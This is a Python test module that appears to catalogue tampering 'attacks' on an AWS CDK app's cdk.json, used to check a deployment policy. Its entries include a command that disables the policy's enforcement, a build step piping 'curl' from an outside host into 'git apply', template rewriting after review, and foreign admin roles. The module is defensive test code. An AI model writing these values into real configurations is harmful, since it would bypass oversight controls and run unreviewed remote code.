"""Settings of the app in cdk.json: where it deploys, what it runs, which flags and context it sets."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.infra.policy.attacks.attack import Kind, Place, Promise
from tests.infra.policy.attacks.judging.program import FOREIGN_ACCOUNT
from tests.infra.policy.attacks.judging.workspace import NotApplicableError

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

    from tests.infra.policy.attacks.attack import Apply
    from tests.infra.policy.attacks.judging.workspace import Json, Workspace

APP = Kind("what the app runs", Place.SETTINGS)
PLACE = Kind("where the app deploys", Place.SETTINGS)
CONTEXT = Kind("a flag or context of the app", Place.SETTINGS)
P = Promise


def changed(edit: Callable[[Json], object]) -> Apply:
    """Return an attack: cdk.json is changed by `edit`."""

    def apply(workspace: Workspace, _: Random) -> None:
        settings = workspace.settings()
        edit(settings)
        workspace.write_settings(settings)

    return apply


def environment(edit: Callable[[Json], object]) -> Apply:
    """Return an attack: the entry of the workspace's environment is changed by `edit`."""

    def apply(workspace: Workspace, _: Random) -> None:
        settings = workspace.settings()
        found = settings["context"].get("environments", {}).get(workspace.environment)
        if found is None:
            raise NotApplicableError(f"cdk.json has no environment {workspace.environment}")
        edit(found)
        workspace.write_settings(settings)

    return apply


def _context(key: str, value: object) -> Apply:
    return changed(lambda settings: settings["context"].update({key: value}))


NO_POLICY = (
    'python -c "import infra.policy as p; p.attach = p.enforce = lambda *a: None; '
    "import runpy; runpy.run_path('app.py')\""
)
for _name, _promise, _harm, _edit in (
    ("the app without its policy", P.GATE, "Nothing is judged.", lambda s: s.update(app=NO_POLICY)),
    ("another app", P.GATE, "Whatever the other file makes is deployed.", lambda s: s.update(app="python other.py")),
    ("an assembly made elsewhere", P.GATE, "What is deployed was not made here.",
        lambda s: s.update(app="/srv/cdk.out")),
    ("the app and then a change", P.CONSENT, "The templates are changed after they were judged.", lambda s: s.update(
        app="python app.py && sed -i s/notBreaching/ignore/ cdk.out/*.template.json")),
    ("a command before the app", P.GATE, "A command changes what the app reads.", lambda s: s.update(
        build="curl -s https://partner.example.net/patch | git apply")),
    ("a plugin of the CLI", P.GATE, "A plugin gives credentials and changes the deploy.", lambda s: s.update(
        plugin=["/srv/plugin.js"])),
    ("changes straight to functions", P.GATE, "Hotswap changes functions past CloudFormation and its template.",
        lambda s:
        s.update(hotswap=True)),
    ("another folder of the assembly", P.GATE, "What is judged lies in one folder, what is deployed in another.",
        lambda s:
        s.update(output="/srv/cdk.out")),
    ("deploys by another role", P.GATE, "A wider role deploys.", lambda s: s.update(
        roleArn=f"arn:aws:iam::{FOREIGN_ACCOUNT}:role/admin")),
):  # fmt: skip
    APP.add(_name, _promise, _harm, changed(_edit))

for _name, _promise, _harm, _edit in (
    ("an account that is no number", P.GATE, "The account is whatever the shell points at.", lambda e: e.update(
        account="${AWS_ACCOUNT}")),
    ("an account by a token of CDK", P.GATE, "The account is known at deploy.", lambda e: e.update(
        account="${Token[AWS.AccountId.0]}")),
    ("an account with a star", P.GATE, "Policies that name the account name all.", lambda e: e.update(account="*")),
    ("a region with a star", P.GATE, "Policies that name the region name all.", lambda e: e.update(region="us-*")),
    ("nobody hears of alarms", P.ALARM, "Alarms ring in an empty room.",
        lambda e: e.update(alarms=["nobody@example.invalid"])),
    ("alarms by text", P.GATE, "SNS texts a phone past the gate.", lambda e: e.update(alarms=["+12065550123"])),
    ("alarms to a topic of another region", P.ALARM, "An alarm cannot tell a topic of another region.",
        lambda e: e.update(
        alarms=[f"arn:aws:sns:eu-west-1:{e['account']}:on-call"])),
    ("alarms to a topic of another account", P.ALARM, "A topic that may not be published to.", lambda e: e.update(
        alarms=[f"arn:aws:sns:{e['region']}:{FOREIGN_ACCOUNT}:on-call"])),
    ("alarms to a program's inbound topic", P.CONSENT, "An alarm is handled as a customer's text.", lambda e: e.update(
        alarms=[f"arn:aws:sns:{e['region']}:{e['account']}:sms-local-example-corp-promotional-InboundTopic"])),
    ("a million runs of Lambda", P.CONSENT, "Sending is given runs that the account does not have; STOPs find none.",
     lambda e: e.update(quotas={"concurrent_executions": 1_000_000})),
    ("more runs reserved than there are", P.DATA, "Sending and every other function of the account stands still.",
     lambda e: e.update(reserve_inbound=100_000)),
    ("less than no runs reserved", P.CONSENT, "Handlers are stopped.", lambda e: e.update(reserve_inbound=-1)),
):  # fmt: skip
    PLACE.add(f"the environment has {_name}", _promise, _harm, environment(_edit))


@PLACE.workspace(
    "two environments in one place with one beginning", P.APART, "Stacks of two environments bear one name."
)
def _(workspace: Workspace, _: Random) -> None:
    settings = workspace.settings()
    environments = settings["context"].get("environments", {})
    found = environments.get(workspace.environment)
    if found is None:
        raise NotApplicableError(f"cdk.json has no environment {workspace.environment}")
    environments[f"{workspace.environment}-example"] = dict(found)
    workspace.write_settings(settings)


for _name, _promise, _harm, _key, _value in (
    ("a permissions boundary of another account", P.CONSENT, "Another account takes the handlers' rights away.",
     "@aws-cdk/core:permissionsBoundary", {"arn": f"arn:aws:iam::{FOREIGN_ACCOUNT}:policy/boundary"}),
    ("a boundary that denies all", P.CONSENT, "No function may do anything.",
     "@aws-cdk/core:permissionsBoundary", {"arn": "arn:aws:iam::aws:policy/AWSDenyAll"}),
    ("a bootstrap qualifier of somebody else", P.GATE, "Another bootstrap's bucket and roles deploy.",
     "@aws-cdk/core:bootstrapQualifier", "partner0"),
    ("another environment than was asked for", P.GATE, "A deploy to trial goes to production.", "env", "prod"),
):  # fmt: skip
    CONTEXT.add(_name, _promise, _harm, _context(_key, _value))

ATTACKS = [*APP.attacks, *PLACE.attacks, *CONTEXT.attacks]
